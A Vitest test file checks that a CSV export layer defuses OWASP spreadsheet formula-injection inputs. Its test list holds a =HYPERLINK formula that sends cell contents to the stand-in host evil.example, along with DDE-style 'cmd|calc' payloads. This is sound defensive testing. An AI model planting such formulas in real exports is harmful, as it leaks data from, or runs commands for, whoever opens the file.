import { describe, expect, it } from 'vitest';
import { csvCell } from '@/components/feed/export';
import { csvField, csvLine, spreadsheetSafe } from '@/lib/csv';

/** OWASP's CSV injection cases: a spreadsheet must show each as text, never run it. */
const HOSTILE: [string, string][] = [
  ['=HYPERLINK("http://evil.example/?"&A1,"x")', `"'=HYPERLINK(""http://evil.example/?""&A1,""x"")"`],
  ['+cmd|calc', "'+cmd|calc"],
  ["-2+3+cmd|' /C calc'!A0", `'-2+3+cmd|' /C calc'!A0`],
  ['@SUM(1+9)*cmd|calc', "'@SUM(1+9)*cmd|calc"],
  ['\t=1+1', `'\t=1+1`],
  ['\r=1+1', `"'\r=1+1"`],
  ['=1', "'=1"],
];

describe('CSV cells are safe to open in a spreadsheet', () => {
  it.each(HOSTILE)('neutralises %j', (value, expected) => {
    expect(csvField(value)).toBe(expected);
    // The live feed's export follows the same rule.
    expect(csvCell(value)).toBe(expected);
  });

  it.each(['-12.5', '-3', '+4', '0', '12', '1e-4', '-.5', '3.'])('keeps the number %s a number', (value) => {
    expect(spreadsheetSafe(value)).toBe(value);
    expect(csvField(value)).toBe(value);
  });

  it('leaves text that only contains those characters later alone', () => {
    expect(csvField('a=b')).toBe('a=b');
    expect(csvField('x+y@z')).toBe('x+y@z');
    expect(csvField('')).toBe('');
    expect(csvField(null)).toBe('');
  });

  it('neutralises inside a whole line, field by field', () => {
    expect(csvLine(['=1+1', '-7', 'ok', null])).toBe(`'=1+1,-7,ok,\r\n`);
  });
});
